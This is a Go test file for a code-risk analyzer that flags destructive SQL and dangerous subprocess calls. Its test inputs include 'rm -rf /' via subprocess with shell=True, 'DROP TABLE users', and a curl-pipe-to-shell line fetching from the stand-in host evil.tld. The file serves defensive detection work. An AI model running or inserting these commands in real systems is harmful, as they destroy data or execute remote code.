package backdoor

import (
	"context"
	"testing"
)

func defaultThresholds() Thresholds {
	return Thresholds{
		SQLRisk:      0.8,
		Subprocess:   0.8,
		EmbeddingSim: 0.72,
		MediumFloor:  0.5,
	}
}

func TestAnalyzeShellSpawnIsHigh(t *testing.T) {
	a := New(defaultThresholds(), nil)
	code := `import subprocess
subprocess.Popen("rm -rf /", shell=True)`

	v := a.Analyze(context.Background(), code)
	if v.SubprocessRisk < 0.8 {
		t.Errorf("subprocess risk = %.2f, want >= 0.8", v.SubprocessRisk)
	}
	if v.Label != RiskHigh {
		t.Errorf("label = %s, want High", v.Label)
	}
	if len(v.SubprocessFindings) == 0 {
		t.Fatal("expected subprocess findings")
	}
	f := v.SubprocessFindings[0]
	if !f.BinHit || f.SensitiveBin != "rm" {
		t.Errorf("rm not recognized: %+v", f)
	}
	if !f.FlagHit {
		t.Errorf("-rf not recognized: %+v", f)
	}
	if !f.ShellTrue {
		t.Errorf("shell=True not recognized: %+v", f)
	}
}

func TestAnalyzeLiteralDropIsHigh(t *testing.T) {
	a := New(defaultThresholds(), nil)
	code := `cur.execute('DROP TABLE users')`

	v := a.Analyze(context.Background(), code)
	if v.SQLRisk != 0.8 {
		t.Errorf("sql risk = %.2f, want 0.8", v.SQLRisk)
	}
	if v.Label != RiskHigh {
		t.Errorf("label = %s, want High", v.Label)
	}
	if len(v.SQLFindings) != 1 || v.SQLFindings[0].Reason != "literal" {
		t.Errorf("findings = %+v", v.SQLFindings)
	}
}

func TestAnalyzeDynamicSQLIsMedium(t *testing.T) {
	a := New(defaultThresholds(), nil)
	tests := []struct {
		name string
		code string
	}{
		{"concatenation", `cur.execute("DELETE FROM t WHERE id=" + user_id)`},
		{"fstring", `cur.execute(f"DROP TABLE {name}")`},
		{"variable", `cur.execute(query)`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := a.Analyze(context.Background(), tt.code)
			if v.SQLRisk != 0.6 {
				t.Errorf("sql risk = %.2f, want 0.6", v.SQLRisk)
			}
			if v.Label != RiskMedium {
				t.Errorf("label = %s, want Medium", v.Label)
			}
		})
	}
}

func TestAnalyzeORMBulkDelete(t *testing.T) {
	a := New(defaultThresholds(), nil)
	v := a.Analyze(context.Background(), `User.objects.filter(active=False).delete()`)
	if v.SQLRisk != 0.6 {
		t.Errorf("sql risk = %.2f, want 0.6", v.SQLRisk)
	}
	found := false
	for _, f := range v.SQLFindings {
		if f.Reason == "orm_delete" {
			found = true
		}
	}
	if !found {
		t.Errorf("orm delete not reported: %+v", v.SQLFindings)
	}
}

func TestAnalyzeBenignCodeIsLow(t *testing.T) {
	a := New(defaultThresholds(), nil)
	tests := []struct {
		name string
		code string
	}{
		{"pure function", "def add(a, b):\n    return a + b"},
		{"select literal", `cur.execute('SELECT id FROM users WHERE active')`},
		{"no sinks", `result = compute(data)\nprint(result)`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := a.Analyze(context.Background(), tt.code)
			if v.Label != RiskLow {
				t.Errorf("label = %s (sql %.2f, subprocess %.2f), want Low",
					v.Label, v.SQLRisk, v.SubprocessRisk)
			}
		})
	}
}

func TestAnalyzeBinaryInputEscalates(t *testing.T) {
	a := New(defaultThresholds(), nil)
	v := a.Analyze(context.Background(), "legit()\x00\xff\xfebinary")
	if v.SQLRisk < 0.8 {
		t.Errorf("unparseable input must escalate, sql risk = %.2f", v.SQLRisk)
	}
	if v.Label != RiskHigh {
		t.Errorf("label = %s, want High", v.Label)
	}
}

func TestAnalyzeOSSystemCurlPipe(t *testing.T) {
	a := New(defaultThresholds(), nil)
	v := a.Analyze(context.Background(), `import os
os.system('curl http://evil.tld/p | sh')`)

	if v.SubprocessRisk < 0.5 {
		t.Errorf("subprocess risk = %.2f, want >= 0.5", v.SubprocessRisk)
	}
	if v.Label != RiskMedium {
		t.Errorf("label = %s, want Medium", v.Label)
	}
}

func TestAnalyzeMultipleSpawnsScoreHigher(t *testing.T) {
	a := New(defaultThresholds(), nil)
	single := a.Analyze(context.Background(), `subprocess.run(["ls"])`)
	double := a.Analyze(context.Background(), `subprocess.run(["ls"])
subprocess.run(["pwd"])`)
	if double.SubprocessRisk <= single.SubprocessRisk {
		t.Errorf("multi-call bonus missing: %.2f vs %.2f", double.SubprocessRisk, single.SubprocessRisk)
	}
}

func TestSubprocessScoreCapped(t *testing.T) {
	a := New(defaultThresholds(), nil)
	code := `os.system('rm -rf /')
subprocess.Popen('bash -c evil', shell=True)
subprocess.Popen(cmd, shell=True)
os.system(dynamic)`
	v := a.Analyze(context.Background(), code)
	if v.SubprocessRisk > 0.9 {
		t.Errorf("subprocess risk %.2f exceeds 0.9 cap", v.SubprocessRisk)
	}
}

func TestVerdictWithoutEmbeddingBackend(t *testing.T) {
	a := New(defaultThresholds(), nil)
	if a.EmbeddingReady() {
		t.Error("no backend must report not ready")
	}
	v := a.Analyze(context.Background(), `print("hello")`)
	if v.EmbeddingSim != nil {
		t.Errorf("similarity must be nil without a backend, got %v", *v.EmbeddingSim)
	}
}

func TestMapSimilarity(t *testing.T) {
	a := New(defaultThresholds(), nil)
	tests := []struct {
		sim  float64
		want float64
	}{
		{0.5, 0},   // below threshold carries no weight
		{0.72, 0.4}, // at threshold maps to band floor
		{1.0, 0.9},  // perfect match maps to band ceiling
	}
	for _, tt := range tests {
		got := a.mapSimilarity(tt.sim)
		if diff := got - tt.want; diff > 0.001 || diff < -0.001 {
			t.Errorf("mapSimilarity(%.2f) = %.3f, want %.3f", tt.sim, got, tt.want)
		}
	}
}

func TestFusedScoreWeights(t *testing.T) {
	a := New(defaultThresholds(), nil)
	v := a.Analyze(context.Background(), `cur.execute('DROP TABLE users')`)

	// sql 0.8 weighted 1.0 over total weight 2.7
	want := 0.8 * 1.0 / 2.7
	if diff := v.FusedScore - want; diff > 0.001 || diff < -0.001 {
		t.Errorf("fused score = %.4f, want %.4f", v.FusedScore, want)
	}
}
